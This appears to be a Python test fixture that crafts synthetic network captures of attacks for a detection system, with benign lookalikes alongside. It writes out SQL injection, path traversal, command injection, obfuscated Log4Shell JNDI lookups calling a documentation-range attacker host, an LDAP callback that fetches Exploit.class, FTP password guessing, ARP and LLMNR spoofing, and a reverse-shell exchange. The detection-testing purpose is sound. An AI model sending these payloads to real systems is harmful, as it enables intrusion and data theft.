# SPDX-License-Identifier: Apache-2.0
"""Behaviours that no honest host shows."""
import struct

import craft_ldap
import craft_llmnr
from craft import CLIENT, MACS, SERVER, Talk, address, ether
from packets import ETHERNET

OK = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"
GONE = b"HTTP/1.1 404 Not Found\r\nContent-Length: 5\r\n\r\nnot h"


def request(target, *fields, body=b"", agent=b"Mozilla/5.0 (X11; Linux x86_64)"):
    method = b"POST" if body else b"GET"
    length = [b"Content-Length: %d" % len(body)] if body else []
    return b"\r\n".join([method + b" " + target + b" HTTP/1.1", b"Host: shop.city.example", b"User-Agent: " + agent,
                         *fields, *length, b"", body])


def case_web():
    """Attacks in each part of a request, and requests that only look a little like some."""
    talk, asked = Talk(), (
        (request(b"/list?id=7%27%20UNION/**/SELECT%20name,password%20FROM%20users--%20"), OK),
        (request(b"/%c0%ae%c0%ae/..%2f..%2fetc/passwd"), GONE),
        (request(b"/ping", body=b"host=127.0.0.1%3Bc''at+/var/log/messages"), OK),
        (request(b"/", b"X-Api-Version: ${${lower:j}ndi:${::-l}dap://203.0.113.9:1389/a}"), OK),
        (request(b"/post", b"Cookie: session=1", body=b"text=%3Cimg+src=x+onerror%3Dalert(1)%3E"), OK),
        (request(b"/", agent=b"sqlmap/1.7.2#stable (https://sqlmap.org)"), OK),
        (request(b"/search?q=union+of+select+committees&page=2", b"Cookie: id=5; ls=1"), OK),
        (request(b"/note", b"Content-Type: application/json", body=b'{"text": "O\'Neil & sons; more (see #4)"}'), OK))
    for question, answer in asked:
        talk.data(0, question, size=1400)
        talk.data(1, answer)
    talk.close()
    return ETHERNET, [ether(p) for p in talk.packets]


def case_logon():
    """Twelve passwords of one account of FTP, the last of which fits; and one who mistypes it twice."""
    frames = []
    for client, passwords in (("10.30.1.66", 13), ("10.30.1.10", 3)):
        talk = Talk(client=client, sport=50000 + passwords, dport=21)
        talk.data(1, b"220 files.city.example FTP\r\n")
        for at in range(passwords):
            talk.data(0, b"USER clerk\r\n")
            talk.data(1, b"331 Password, please\r\n")
            talk.data(0, b"PASS guess%d\r\n" % at)
            talk.data(1, b"530 No\r\n" if at + 1 < passwords else b"230 Welcome\r\n")
        talk.close()
        frames += [ether(p) for p in talk.packets]
    return ETHERNET, frames


def case_transfer():
    """A program called a picture, one with two names, one from a host without a name, and a real picture."""
    program = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0\x4c\x01" + bytes(200)
    picture = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + bytes(200)
    frames = []
    for at, (server, host, path, body) in enumerate((
            ("203.0.113.9", b"cdn.example.net", b"/a/logo.jpg", program),
            ("203.0.113.9", b"cdn.example.net", b"/invoice.pdf.exe", program),
            ("203.0.113.77", b"203.0.113.77", b"/update.exe", program),
            ("203.0.113.9", b"cdn.example.net", b"/b/photo.jpg", picture))):
        talk = Talk(server=server, sport=50000 + at)
        talk.data(0, b"GET " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
        talk.data(1, b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        talk.close()
        frames += [ether(p) for p in talk.packets]
    return ETHERNET, frames


def visit(server, host, steps, sport):
    """Requests for (path, answer's type, body, fields) on a connection of their own."""
    talk = Talk(server=server, sport=sport)
    for path, kind, body, fields in steps:
        talk.data(0, b"\r\n".join([b"GET " + path + b" HTTP/1.1", b"Host: " + host, *fields, b"", b""]))
        talk.data(1, b"HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n" % (kind, len(body)) + body)
    talk.close()
    return [ether(p) for p in talk.packets]


def case_driveby():
    """A page and a script, then a program without a name; and a program somebody clicked on."""
    program = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0\x4c\x01" + bytes(200)
    browser, page = b"User-Agent: Mozilla/5.0", (b"/", b"text/html", b"<script src=/a.js></script>", [b"User-Agent: Mozilla/5.0"])
    script = (b"/a.js", b"text/javascript", b"go()", [browser, b"Referer: http://x.example/"])
    return ETHERNET, [
        *visit("203.0.113.9", b"news.example.net", [page, script, (b"/load.php?id=5", b"application/octet-stream", program, [browser])], 50000),
        *visit("203.0.113.80", b"tools.example.org", [page, script, (b"/setup.exe", b"application/x-msdownload", program,
                                                                     [browser, b"Referer: http://tools.example.org/"])], 50001)]


def case_callback():
    """A server is sent a lookup, asks the attacker's directory, is given a Java object, and fetches the class."""
    web, evil, java = Talk(client="203.0.113.66", server=CLIENT, sport=50000), "203.0.113.9", b"User-Agent: Java/1.8.0_51"
    web.data(0, request(b"/", agent=b"${jndi:ldap://203.0.113.9:1389/a}"))
    web.data(1, OK)
    web.close()
    ldap = Talk(server=evil, sport=50001, dport=1389)
    ldap.data(0, craft_ldap.search(2, craft_ldap.PRESENT, b"a", 0))
    ldap.data(1, craft_ldap.entry(2, b"a", javaClassName=[b"foo"], javaCodeBase=[b"http://203.0.113.9/"]) + craft_ldap.done(2))
    ldap.close()
    return ETHERNET, [*(ether(p) for p in web.packets + ldap.packets),
                      *visit(evil, b"203.0.113.9", [(b"/Exploit.class", b"application/java-vm", b"\xca\xfe\xba\xbe", [java])], 50002)]


LIAR, LIAR_MAC = "10.30.1.66", "02000a1e0166"


def arp(opcode, mac, of, to):
    return ether(struct.pack(">HHBBH", 1, 0x0800, 6, 4, opcode) + bytes.fromhex(mac) + address(of) + bytes(6) + address(to), 0x0806)


def case_local():
    """A third host says that the server's address is its own, and answers for whatever name is sought."""
    packets = [arp(1, LIAR_MAC, LIAR, CLIENT), arp(2, MACS[CLIENT], CLIENT, LIAR)]
    for _ in range(3):
        packets += [arp(1, MACS[SERVER], SERVER, CLIENT), arp(2, LIAR_MAC, SERVER, CLIENT)]
    for port, name in enumerate((b"flies", b"pritner", b"wpad"), 50355):
        packets += [craft_llmnr.to(CLIENT, craft_llmnr.ALL, port, 5355, craft_llmnr.question(name)),
                    craft_llmnr.to(LIAR, CLIENT, 5355, port, craft_llmnr.answer(name, address(LIAR)))]
    return ETHERNET, packets


def case_attackers_tools():
    """Requests as three tools send them, a shell that calls home, a program's second stage; and a page of the same name."""
    frames = []
    for at, (question, answer) in enumerate((
            (request(b"/submit.php?id=52317", b"Content-Type: application/octet-stream", body=bytes(64)), OK),
            (request(b"/en-us/test.html?message=0a1b2c3d4e&v=1"), OK),
            (request(b"/admin/get.php", agent=b"Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"),
             OK.replace(b"\r\n", b"\r\nServer: Microsoft-IIS/7.5\r\n", 1)),
            (request(b"/admin/get.php"), GONE),
            (b"Microsoft Windows [Version 10.0.19045.3803]\r\n\r\nC:\\Windows\\system32>", b"whoami\r\n"),
            (b"", struct.pack("<I", 175174) + b"MZARUH\x89\xe5" + bytes(64)))):
        talk = Talk(server=f"203.0.113.{80 + at}", sport=50000 + at, dport=80 if at < 4 else 4444)
        talk.data(0, question, size=1400)
        talk.data(1, answer)
        talk.close()
        frames += [ether(p) for p in talk.packets]
    return ETHERNET, frames
